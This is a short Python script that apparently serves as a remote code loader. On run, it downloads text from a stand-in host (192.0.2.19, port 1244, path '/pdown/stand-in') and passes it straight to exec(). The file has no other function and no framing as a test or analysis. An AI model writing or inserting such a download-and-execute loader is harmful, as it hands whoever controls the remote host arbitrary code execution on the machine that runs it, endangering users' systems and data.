import requests

HOST = "http://192.0.2.19:1244"


def fetch(path):
    r = requests.get(HOST + path, timeout=10)
    return r.text


if __name__ == "__main__":
    exec(fetch("/pdown/stand-in"))
